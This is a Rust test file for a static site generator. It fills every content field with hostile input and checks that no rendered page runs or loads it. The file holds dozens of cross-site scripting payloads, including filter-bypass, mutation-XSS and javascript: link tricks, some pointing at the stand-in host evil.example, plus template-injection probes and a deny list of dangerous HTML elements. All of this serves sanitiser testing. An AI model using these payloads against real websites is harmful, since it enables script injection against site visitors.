//! Content that tries everything: whatever authors (or those who paste into their pages) write, no page runs or loads
//! it, with `html: safe` and with `html: escape`, in the default theme and in one that prints every field.

use std::sync::LazyLock;

use crate::golden;
use crate::html::{ADDRESSES, Element, elements, is_page};
use crate::support::{Built, Project};

/// The attack for every text of one line.
const LINE: &str =
    "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg/onload=alert(1)> {{ 7 * 191 }} {% raw %}";

/// HTML that has got past one sanitiser or another, or would if ours were not called. No line is empty, so each of them
/// is one block of raw HTML or stands in a paragraph.
const HTML: [&str; 39] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/p.gif srcset='//evil.example/p.gif 2x' alt=a>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\"></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style=\"background:url(//evil.example)\" class=site-header id=sl-main>x</p>",
    "<iframe src=//evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x.swf></object><embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0; url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=//evil.example/x.png><input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a> <a href=' java\tscript:alert(1)'>x</a> <a href='JAVASCRIPT:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a> <a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a> <a href='vbscript:x' ping=//evil.example>x</a>",
    "<a href='//evil.example' target=_blank onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>s <script>alert(1)</script></summary> x </details>",
    "<video src=//evil.example/x.mp4 poster=//evil.example/x.png onerror=alert(1)><source src=//evil.example></video>",
    "<audio src=//evil.example autoplay></audio><track src=//evil.example>",
    "<table background=//evil.example><tr><td background=//evil.example style=x:y onmouseover=alert(1)>x</td></tr></table>",
    "<body onload=alert(1)><html onclick=alert(1)><frameset onload=alert(1)><frame src=//evil.example>",
    "<textarea></textarea><textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img src=x onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp><plaintext>",
    "<!-- <img src=x onerror=alert(1)> --><!--><script>alert(1)</script>--> <!--!> <img src=x onerror=alert(1)> -->",
    "<![CDATA[><script>alert(1)</script>]]> <?x ><script>alert(1)</script>?> <!X ><script>alert(1)</script>>",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite=javascript:alert(1)>x</q><del cite=javascript:alert(1)>x</del>",
    "<template><script>alert(1)</script></template><slot onclick=alert(1)></slot><x-y onclick=alert(1) is=z></x-y>",
    "<div title='</div><script>alert(1)</script>'>x</div><b title=\"`onmouseover=alert(1)`\">x</b>",
    "</div></main></body><script>alert(1)</script>",
    "<img src=\"placeholder-0-0-\" title=\"placeholder-0-1-\" onerror=\"placeholder-0-0-\"> placeholder-0-0- placeholder-1-0-",
];

/// Markdown that tries the same.
const MARKDOWN: &str = "
[a](javascript:alert(1)) [b](<java\tscript:alert(1)>) [c](JaVaScRiPt:alert(1)) [d](data:text/html;base64,PHNjcmlwdD4=)
[e](vbscript:x) [f](file:///etc/passwd) [g](//evil.example) [h](https://example.org/\"onmouseover=alert(1)\")
[i](https://example.org 'title\"><script>alert(1)</script>') <javascript:alert(1)> <data:text/html,x>
![j](javascript:alert(1)) ![k](https://evil.example/p.gif) ![l](//evil.example/p.gif) ![m\" onerror=alert(1) \"](dot.svg)
![n](data:image/svg+xml,<svg/onload=alert(1)>) [o][ref] [p](&#106;avascript:alert(1)) [q](javascript&colon;alert(1))

[ref]: javascript:alert(1) \"x\"

[[Senior|<img src=x onerror=alert(1)>]] [[Senior|<script>alert(1)</script>]] [[#<script>alert(1)</script>]]
[[<script>alert(1)</script>]] [[Senior#\"><script>alert(1)</script>]] [[javascript:alert(1)]] [[Senior\" onclick=alert(1)]]

[^\"><script>alert(1)</script>]: x
[^n]: A note with <script>alert(1)</script> and [x](javascript:alert(1)).

Footnote[^n] `<script>alert(1)</script>` {{ 7 * 191 }} {% include \"/etc/passwd\" %}

```html\" onclick=alert(1)
<script>alert(1)</script>
```

Term <script>alert(1)</script>
: Definition <img src=x onerror=alert(1)>

> [!NOTE] <script>alert(1)</script>
> <script>alert(1)</script>

| <script>alert(1)</script> | b |
| :-: | --- |
| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |

- [ ] <script>alert(1)</script> {#x\"onclick=alert(1)}

## Heading <script>alert(1)</script> {#\"><script>alert(1)</script> .\"><img onerror=alert(1)>}

<details><summary>Examples <img src=x onerror=alert(1)></summary>

- <script>alert(1)</script>

</details>

<div>

<p title=\"

\"><script>alert(1)</script>

</div>
";

/// A project with attacks in every place that takes a text.
fn hostile(html: &str) -> Project {
    let line = LINE.replace('\\', "\\\\").replace('"', "\\\"");
    let body = format!("{LINE}\n\n{MARKDOWN}\n");
    let cell = format!("## Craft\n\n{}\n", HTML.map(|html| format!("- {html}\n  > {html}\n\n  {html}\n")).join("\n"));
    let configuration = format!(
        "title: \"{line}\"\ndescription: \"{line}\"\nhtml: {html}\nfacets: {{scope: \"{line}\"}}\n\
         areas: {{one: {{title: \"{line}\", summary: \"{line}\"}}}}\n\
         owners: {{them: {{name: \"{line}\", url: \"javascript:alert(1)\"}}}}\n\
         base_url: \"https://example.org/\\\"><script>alert(1)</script>/\"\nedit_url: \"https://example.org/{{path}}?\\\"><script>\"\n\
         style: {{paper: \"red}}</style><script>alert(1)</script>\", ink: \"url(//evil.example)\", ok: \"#fff\"}}\n"
    );
    let common = format!("summary: \"{line}\"\ntags: [\"{line}\"]\nowner: them\n");
    let aliases = "aliases: ['old/\"><script>alert(1)</script>', 'javascript:alert(1)', '../../x', 'old/fine']\n";
    let attacks = HTML.iter().enumerate().fold(Project::new(), |project, (number, html)| {
        let page = format!(
            "---\ntitle: Attack {number}\n---\nBefore.\n\n{html}\n\nAfter, and {html} inside.\n\n- {html}\n\n> {html}\n"
        );
        project.file(&format!("content/attacks/{number}.md"), &page)
    });
    attacks
        .file("stepladder.yaml", &configuration)
        .file("content/dot.svg", "<svg/>")
        .file("content/index.md", &format!("---\ntitle: \"{line}\"\n{common}---\n{body}"))
        .file(
            "content/ic/index.md",
            &format!("---\nkind: track\ntitle: \"Track {line}\"\nfamily: \"{line}\"\nweights: {{craft: 100}}\n{common}---\n{body}"),
        )
        .file(
            "content/ic/mid.md",
            &format!("---\nkind: level\ntitle: \"Mid {line}\"\nid: mid\ncode: \"{line}\"\nrank: 1\n{common}{aliases}also_known_as: [\"{line}\"]\nfacets: {{scope: \"{line}\"}}\nexperience: \"{line}\"\nprofile: {{craft: 1}}\n---\n{body}\n{cell}"),
        )
        .file(
            "content/ic/senior.md",
            &format!("---\nkind: level\ntitle: Senior\nrank: 2\nextends: mid\nprofile: {{craft: 2}}\nfacets: {{scope: [\"{line}\", \"{line}\"]}}\n---\n## Own {line} {{.expectations}}\n\n- {LINE}\n\n{cell}"),
        )
        .file(
            "content/craft.md",
            &format!("---\nkind: competency\ntitle: Craft\narea: one\nalso_known_as: [\"{line}\"]\nscale: [\"{line}\", Two]\n{common}---\n{body}\n## Two\n\n{body}"),
        )
        .file("content/to.md", &format!("---\nkind: move\ntitle: \"Move {line}\"\nfrom: mid\nto: senior\n{common}---\n{body}"))
        .file("content/advice.md", &format!("---\nkind: article\ntitle: \"Article {line}\"\nlevels: [mid]\n{common}---\n{body}"))
        .file("content/sheet.md", &format!("---\nkind: worksheet\ntitle: \"Sheet {line}\"\nlevels: [mid]\n{common}---\n{body}"))
        .file("content/term.md", &format!("---\nkind: term\ntitle: \"Term {line}\"\nalso_known_as: [\"{line}\"]\n{common}---\n{body}"))
}

/// Every hostile site: both ways to treat raw HTML, both themes.
static SITES: LazyLock<[(&str, Built); 4]> = LazyLock::new(|| {
    let plain = |html| golden::in_plain_theme(hostile(html)).build();
    [
        ("safe, default theme", hostile("safe").build()),
        ("safe, plain theme", plain("safe")),
        ("escape, default theme", hostile("escape").build()),
        ("escape, plain theme", plain("escape")),
    ]
});

fn pages(built: &Built) -> impl Iterator<Item = (String, &str)> {
    let pages = built.files.iter().map(|(path, _)| path.as_str()).filter(|path| is_page(path));
    pages.map(|path| (path.to_owned(), built.text(path)))
}

/// Elements that run, frame or submit something, or change the meaning of the rest of the page.
const FORBIDDEN: [&str; 34] = [
    "script",
    "template",
    "slot",
    "button",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "form",
    "textarea",
    "select",
    "option",
    "noscript",
    "math",
    "animate",
    "set",
    "foreignobject",
    "use",
    "image",
    "video",
    "audio",
    "source",
    "track",
    "portal",
    "xmp",
    "plaintext",
    "noembed",
    "noframes",
    "marquee",
    "x-y",
];

/// Whether an element is the theme's own: a script, or a control for readers.
fn is_the_theme_s(element: &Element) -> bool {
    let has = |attribute: &str, value: &str| element.attribute(attribute) == Some(value);
    let is_named = |names: &[&str]| names.iter().any(|name| has("name", name));
    match element.name.as_str() {
        "script" => element.attribute("src").is_some_and(|src| src.contains("assets/scripts/")) && has("defer", ""),
        "template" => {
            let own = |(name, _): &(String, String)| name.starts_with("data-");
            element.attributes.iter().all(own) || has("class", "assess-subjects") || has("class", "assess-star")
        }
        "slot" | "noscript" => element.attributes.is_empty(),
        "select" => is_named(&["from", "to", "low", "high", "next"]),
        "option" => element.attribute("value").is_some(),
        "button" => has("type", "button"),
        "input" => {
            is_named(&["differs", "track", "area", "text", "news", "name", "differ"])
                || has("id", "sl-search")
                || has("readonly", "")
                || has("type", "file") && has("hidden", "")
        }
        _ => false,
    }
}

/// The reason why an element isn't allowed on a page, if it isn't.
fn fault(element: &Element, path: &str) -> Option<String> {
    let name = element.name.as_str();
    if FORBIDDEN.contains(&name) && !is_the_theme_s(element) {
        return Some("is not to be here".to_owned());
    }
    let is = |attribute: &str, value: &str| element.attribute(attribute) == Some(value);
    for (attribute, value) in &element.attributes {
        if attribute.starts_with("on")
            || matches!(attribute.as_str(), "style" | "srcdoc" | "is" | "autofocus" | "formaction")
        {
            return Some(format!("has {attribute}={value:?}"));
        }
        if ADDRESSES.contains(&attribute.as_str()) {
            let address: String =
                value.chars().filter(|c| !c.is_control()).collect::<String>().trim().to_ascii_lowercase();
            let within = address.starts_with('#');
            // A scheme ends before any anchor begins.
            let start = address.split('#').next().unwrap_or_default();
            let relative = within || !start.contains(':') && !address.starts_with("//") && !address.starts_with('\\');
            let web = ["https://example.org", "http://example.org", "//evil.example"]
                .iter()
                .any(|start| address.starts_with(start));
            let link = name == "a" && attribute == "href" || name == "link" && is("rel", "canonical");
            if !(relative || link && web) {
                return Some(format!("has {attribute}={value:?}"));
            }
        }
    }
    match name {
        "meta" if is("http-equiv", "refresh") && (path == "old/fine.html" || path.starts_with("assess/")) => None,
        "meta" if element.attribute("http-equiv").is_some() => Some("tells the browser something".to_owned()),
        "input" if is_the_theme_s(element) => None,
        "input" if !is("type", "checkbox") || element.attribute("disabled").is_none() => {
            Some("can be filled in".to_owned())
        }
        "link" if !["stylesheet", "icon", "canonical", "alternate"].iter().any(|rel| is("rel", rel)) => {
            Some("is a link".to_owned())
        }
        _ => None,
    }
}

#[test]
fn nothing_that_is_written_runs_or_loads() {
    let mut wrong = Vec::new();
    for (site, built) in SITES.iter() {
        let mut count = 0;
        for (path, page) in pages(built) {
            count += 1;
            let faults = elements(page).into_iter().filter_map(|element| Some((fault(&element, &path)?, element)));
            wrong.extend(
                faults.map(|(why, element)| format!("{site}: {path}:{}: <{}> {why}", element.line, element.name)),
            );
        }
        assert!(count >= 20, "{site} has only {count} pages");
    }
    assert!(wrong.is_empty(), "{} elements:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn what_a_theme_draws_is_all_that_is_drawn() {
    for (site, built) in SITES.iter().filter(|(site, _)| site.ends_with("plain theme")) {
        for (path, page) in pages(built) {
            let drawn =
                elements(page).into_iter().find(|element| matches!(element.name.as_str(), "svg" | "path" | "g"));
            assert_eq!(drawn, None, "{site}: {path}");
        }
    }
}

#[test]
fn content_is_no_template() {
    for (site, built) in SITES.iter() {
        let pages: Vec<_> = pages(built).collect();
        assert!(pages.iter().all(|(_, page)| !page.contains("1337")), "{site} has computed something");
        assert!(pages.iter().any(|(_, page)| page.contains("{{ 7 * 191 }}")), "{site} does not show what was written");
    }
}

#[test]
fn what_is_escaped_is_shown() {
    for (site, built) in SITES.iter() {
        let all = pages(built).map(|(_, page)| page.to_owned()).collect::<String>();
        let bold = all.contains("<b title");
        assert_eq!(bold, site.starts_with("safe"), "{site}: harmless HTML stays where it is safe");
        assert!(bold || all.contains("&lt;b title"), "{site}");
    }
}

#[test]
fn what_is_allowed_knowingly_is_left_alone() {
    let built = Project::new()
        .file("stepladder.yaml", "title: Test\nhtml: allow\n")
        .file("content/index.md", "---\ntitle: Home\n---\n<script>alert(1)</script>\n")
        .build();
    assert!(built.text("index.html").contains("<script>alert(1)</script>"));
}

#[test]
fn files_for_machines_hold_what_was_written_as_text() {
    for (site, built) in SITES.iter() {
        let ladder: serde_json::Value = serde_json::from_str(built.text("ladder.json")).expect("JSON");
        assert_eq!(ladder["title"], LINE, "{site}");
        assert!(!built.text("sitemap.xml").contains("<script"), "{site}");
        for data in ["assets/search-index.js", "assets/terms.js"] {
            let text = built.text(data);
            assert!(!text.contains(['<', '\u{2028}', '\u{2029}']), "{site}: {data}");
            let json = text.strip_prefix("stepladder.give(").and_then(|rest| rest.strip_suffix(");\n"));
            let value: serde_json::Value = serde_json::from_str(json.expect("one call")).expect("JSON");
            assert!(value.to_string().contains("alert(1)"), "{site}: {data} holds what was written");
        }
        let style = built.text("assets/properties.css");
        assert_eq!(style, ":root {\n  --ok: #fff;\n}\n", "{site}");
    }
}

/// Placeholders are represented by markers while HTML is rendered. An author who guesses a marker (written with an
/// entity, so that the source doesn't have it literally) must not get an address or an id inserted where it opens an
/// attribute.
#[test]
fn placeholder_markers_cannot_be_forged() {
    for number in 0..4 {
        for entity in ["&#112;laceholder-0-", "placeholder&#45;0-", "pl&#x61;ceholder-0-", "&#112;laceholder-1-"] {
            let mark = format!("{entity}{number}-");
            let body = format!(
                "Note[^1] and [home](index.md).\n\n[^1]: x\n\n## Craft\n\n\
                 - A[^1] <a title=\"{mark}\">x\" onmouseover=alert(1) y=\"</a> {mark} <b title='{mark}'>y' onclick=alert(1) '</b>\n\n\
                 [x](index.md \"{mark}\") ![\" onerror=alert(1) x=\"](dot.svg \"{mark}\")\n"
            );
            let built = Project::new()
                .file("content/dot.svg", "<svg/>")
                .file("content/index.md", &format!("---\ntitle: Home\n---\n{body}"))
                .file("content/craft.md", "---\nkind: competency\ntitle: Craft\n---\n")
                .file("content/track.md", "---\nkind: track\ntitle: Track\n---\n")
                .file("content/mid.md", &format!("---\nkind: level\ntitle: Mid\nrank: 1\nfacets: {{scope: \"pl\\u0061ceholder-0-{number}-\"}}\n---\n{body}"))
                .file("content/senior.md", "---\nkind: level\ntitle: Senior\nrank: 2\nextends: mid\n---\n")
                .build();
            for (path, page) in pages(&built) {
                for element in elements(page) {
                    assert_eq!(fault(&element, &path), None, "{mark}: {path}:{}: {element:?}", element.line);
                    let odd = element.attributes.iter().find(|(name, _)| name.contains(['"', '\'', '<']));
                    assert_eq!(odd, None, "{mark}: {path}:{}: an attribute was opened: {element:?}", element.line);
                }
            }
            assert!(
                built.text("mid.html").contains(&format!("placeholder-0-{number}-")),
                "{mark}: what was written is shown"
            );
        }
    }
}
